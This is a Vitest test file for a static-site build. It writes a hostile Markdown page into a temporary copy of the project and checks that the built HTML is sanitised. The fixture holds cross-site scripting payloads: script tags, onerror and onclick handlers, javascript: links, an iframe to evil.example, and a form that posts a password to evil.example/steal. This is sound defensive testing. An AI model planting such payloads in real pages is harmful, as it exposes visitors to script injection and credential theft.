/**
 * The published site carries no script from content: a temporary copy of the
 * project whose overview page (content/pages/index.md) holds <script>, inline event
 * handlers, javascript: links, an iframe and an external link is built with Astro
 * (through buildSite, as `npm run build` does), and the built HTML is checked.
 * The repository's own content is never touched.
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildSite } from '../../src/pipeline/site';
import { REPO_ROOT } from '../support';
import { tempDir } from './helpers';

const HOSTILE = `---
title: Hostile page
order: 0
---

Before <script>alert("script")</script> after.

<img src="figure.png" alt="a figure" onerror="alert('onerror')">

<a href="javascript:alert('href')">raw javascript link</a> and [markdown javascript link](javascript:alert('md'))

<div onclick="alert('onclick')" onmouseover="alert('over')">click me</div>

<iframe src="https://evil.example/frame"></iframe>

<style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="password"></form>

[an external link](https://example.org/paper) and [an internal link](/experiments/exp2/)

<details><summary>More</summary>Allowed HTML stays.</details>

\`\`\`js
const kept = 1;
\`\`\`
`;

/** The environment without the variables Vitest adds (BASE_URL, MODE, …), which would leak into Vite inside Astro. */
function cleanEnv(): void {
  for (const k of ['BASE_URL', 'MODE', 'DEV', 'PROD', 'SSR', 'VITEST', 'VITEST_MODE', 'VITEST_POOL_ID', 'VITEST_WORKER_ID', 'NODE_ENV']) delete process.env[k];
}

describe('site security: content is sanitised', () => {
  const root = tempDir('site-copy');
  let html: string;
  let all: string;

  beforeAll(() => {
    // The project as committed (pages read files such as data.manifest.json), without build products.
    const skip = new Set(['node_modules', '.git', 'dist', 'checkpoints', '.astro', '.cache', 'renders']);
    for (const entry of fs.readdirSync(REPO_ROOT)) {
      if (skip.has(entry) || entry.startsWith('dist.')) continue;
      fs.cpSync(path.join(REPO_ROOT, entry), path.join(root, entry), { recursive: true });
    }
    fs.symlinkSync(path.join(REPO_ROOT, 'node_modules'), path.join(root, 'node_modules'));
    fs.writeFileSync(path.join(root, 'content/pages/index.md'), HOSTILE);
    const saved = { ...process.env };
    try {
      cleanEnv();
      delete process.env.SITE_OUT_DIR;
      process.env.ASTRO_TELEMETRY_DISABLED = '1';
      const status = buildSite({ root, resultsDir: path.join(REPO_ROOT, 'experiments'), log: () => {} });
      expect(status).toBe(0);
    } finally {
      process.env = saved;
    }
    html = fs.readFileSync(path.join(root, 'dist/index.html'), 'utf8');
    const pages = (fs.readdirSync(path.join(root, 'dist'), { recursive: true }) as string[]).filter((f) => f.endsWith('.html'));
    all = pages.map((f) => fs.readFileSync(path.join(root, 'dist', f), 'utf8')).join('\n');
  }, 300_000);

  it('renders the page (the hostile content did reach the build)', () => {
    expect(html).toContain('Before');
    expect(html).toContain('click me');
    expect(html).toContain('<details><summary>More</summary>Allowed HTML stays.</details>');
    expect(html).toMatch(/<pre[^>]*><code>.*kept/s);
  });

  it('carries no script, inline event handler, javascript: URL, iframe, style or form from content', () => {
    expect(all).not.toMatch(/<script/i);
    expect(all).not.toMatch(/alert\(/);
    expect(all).not.toMatch(/\son[a-z]+\s*=/i);
    expect(all).not.toMatch(/javascript:/i);
    expect(all).not.toMatch(/<iframe|<form|<style>body/i);
    expect(html).toContain('<img src="figure.png" alt="a figure">');
  });

  it('gives external links rel="noopener noreferrer", and leaves internal links alone', () => {
    expect(html).toContain('<a href="https://example.org/paper" rel="noopener noreferrer">an external link</a>');
    expect(html).toMatch(/<a href="\/experiments\/exp2\/">an internal link<\/a>/);
  });

  it('left no temporary site folder beside dist/', () => {
    expect(fs.readdirSync(root).filter((f) => f.startsWith('dist'))).toEqual(['dist']);
  });
});
